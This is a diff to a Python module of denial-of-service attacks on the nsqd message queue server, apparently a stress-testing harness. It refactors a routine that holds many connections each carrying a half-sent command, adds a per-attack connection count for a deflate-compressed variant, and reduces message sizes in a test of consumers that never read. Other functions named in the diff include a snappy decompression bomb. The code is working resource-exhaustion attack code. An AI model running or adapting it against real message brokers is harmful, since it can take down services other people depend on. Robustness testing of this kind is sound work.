@@ -106,30 +106,34 @@ def half_pubs(target: Target, until: float) -> str:
     return _held(target, bodies.half_pub(1_000_000), until)
 
 
-def _held(target: Target, half: bytes, until: float, wishes: bytes = b"{}") -> str:
-    """Many connections of which each has sent half a command, as far as nsqd takes it."""
-    unsent: dict[socket.socket, memoryview] = {}
+def _held(target: Target, half: bytes, until: float, *, wishes: bytes = b"{}", connections: int = STALLED) -> str:
+    return hold([client(target.tcp, wishes) for _ in range(connections)], half, until)
+
+
+def hold(socks: list[socket.socket], half: bytes, until: float) -> str:
+    """Sends half a command on each, as far as nsqd takes it, and then nothing more."""
+    unsent = {sock: memoryview(half) for sock in socks}
     taken = closed = 0
-    with ExitStack() as stack:
-        for _ in range(STALLED):
-            sock = stack.enter_context(client(target.tcp, wishes))
-            sock.setblocking(False)
-            unsent[sock] = memoryview(half)
-        while time.monotonic() < until:
-            readable, ready, _ = select.select(unsent, [sock for sock in unsent if unsent[sock]], (), 0.1)
-            for sock in ready:
+    for sock in socks:
+        sock.setblocking(False)
+    while time.monotonic() < until:
+        readable, ready, _ = select.select(unsent, [sock for sock in unsent if unsent[sock]], (), 0.1)
+        for sock in readable:
+            if not discard(sock):
+                del unsent[sock]
+                sock.close()
+                closed += 1
+        for sock in ready:
+            if sock in unsent:
                 with suppress(OSError):
                     count = sock.send(unsent[sock][:262_144])
                     taken += count
                     unsent[sock] = unsent[sock][count:]
-            for sock in readable:
-                if not discard(sock):
-                    del unsent[sock]
-                    sock.close()
-                    closed += 1
-            if not ready:
-                time.sleep(0.01)
-    return f"{STALLED} connections, {taken / 1e6:,.0f} MB taken, {closed} closed by nsqd"
+        if not ready:
+            time.sleep(0.01)
+    for sock in unsent:
+        sock.close()
+    return f"{len(socks)} connections, {taken / 1e6:,.0f} MB taken, {closed} closed by nsqd"
 
 
 def big_identify(kind: str) -> Attack:
@@ -247,7 +251,8 @@ def snappy_bomb(target: Target, until: float) -> str:
 def half_bodies_deflated(target: Target, until: float) -> str:
     """Bodies of 5 MB that are a few kilobytes on the wire, and never end."""
     packed = bodies.deflated(bodies.mpub("half", BODY, 100_000)[:-1])
-    return _held(target, packed, until, wishes=_wishes(b'"deflate":true,"deflate_level":6'))
+    # Fewer than of the others: zlib alone takes 0.3 MB for each connection.
+    return _held(target, packed, until, wishes=_wishes(b'"deflate":true,"deflate_level":6'), connections=200)
 
 
 def _bomb(target: Target, wish: bytes, pack: Callable[[bytes], bytes], commands: bytes, until: float) -> str:
@@ -361,9 +366,9 @@ def deaf_consumers(target: Target, until: float) -> str:
             socks.append(sock)
         sent = 0
         for sent in paced(10, until):  # noqa: B007 # the last one is told
-            publisher.sendall(bodies.mpub("deaf", 500_000, _HELD_MESSAGE))
+            publisher.sendall(bodies.mpub("deaf", 50_000, _HELD_MESSAGE))
             hear_ok(publisher)
-        return f"{len(socks)} consumers, {(sent + 1) * 0.5:.0f} MB published"
+        return f"{len(socks)} consumers, {(sent + 1) * 0.05:.1f} MB published"
 
 
 def deaf_askers(target: Target, until: float) -> str:
